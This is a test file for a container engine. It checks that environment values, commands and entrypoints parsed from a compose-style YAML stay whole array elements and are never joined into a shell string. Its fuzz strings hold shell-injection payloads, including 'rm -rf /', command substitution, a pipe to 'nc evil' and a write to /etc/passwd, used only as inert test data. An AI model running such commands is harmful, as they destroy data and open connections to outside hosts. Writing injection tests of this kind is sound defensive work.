// issue #7.2: free text (env values, commands) reaches the engine as whole array elements, never joined into a shell string.
import { describe, expect, test } from 'vitest';
import { containers, manifestOf } from './engine-specs.js';

describe('free text stays whole: one env entry, one command element', () => {
  const EVIL = '$(id); `id` && rm -rf / | nc evil 1 > /etc/passwd\n--privileged "quoted" \'single\' \\';
  const yaml = [
    'services:',
    '  db:',
    '    image: pg',
    '    expose: ["5432"]',
    '    environment:',
    '      PASSWORD: "${EVIL}"',
    '      SPACES: "  a  b  "',
    '    command: ["sh", "-c", "${EVIL}", "--", "$$(id)"]',
    '  web:',
    '    image: web',
    '    link: db',
    '    environment: ["LIST=${EVIL}", "EQ=a=b=c"]',
    '    command: "run --flag \'${EVIL_WORD}\' \\"two words\\""',
    '    entrypoint: ["/bin/app", "--config=${EVIL}"]',
  ].join('\n');
  const specs = containers(manifestOf(yaml, { EVIL, EVIL_WORD: '; rm -rf / $(id)' }));

  test('env values are single KEY=VALUE entries, link env included', () => {
    expect([specs['service:db']!.env, specs['service:web']!.env]).toEqual([
      [`PASSWORD=${EVIL}`, 'SPACES=  a  b  '],
      [
        `DB_ENV_PASSWORD=${EVIL}`,
        'DB_ENV_SPACES=  a  b  ',
        'DB_NAME=/fuzz-web/db',
        'DB_PORT=tcp://10.213.0.2:5432',
        'DB_PORT_5432_TCP=tcp://10.213.0.2:5432',
        'DB_PORT_5432_TCP_ADDR=10.213.0.2',
        'DB_PORT_5432_TCP_PORT=5432',
        'DB_PORT_5432_TCP_PROTO=tcp',
        'EQ=a=b=c',
        `LIST=${EVIL}`,
      ],
    ]);
  });

  test('command and entrypoint elements are passed as written, never joined', () => {
    expect([specs['service:db']!.cmd, specs['service:web']!.cmd, specs['service:web']!.entrypoint]).toEqual([
      ['sh', '-c', EVIL, '--', '$(id)'],
      ['run', '--flag', '; rm -rf / $(id)', 'two words'],
      ['/bin/app', `--config=${EVIL}`],
    ]);
  });

  test('the sandboxes get numbers and addresses only', () => {
    expect([specs['sandbox:db']!.cmd, specs['sandbox:web']!.cmd, specs['sandbox:db']!.env, specs['sandbox:web']!.extraHosts]).toEqual([
      ['hitch-sandbox', 'run', '--subnet', '10.213.0.0/24', '--allow', 'tcp:10.213.0.3:5432'],
      ['hitch-sandbox', 'run', '--subnet', '10.213.0.0/24'],
      [],
      ['db fuzz-db:10.213.0.2'],
    ]);
  });
});
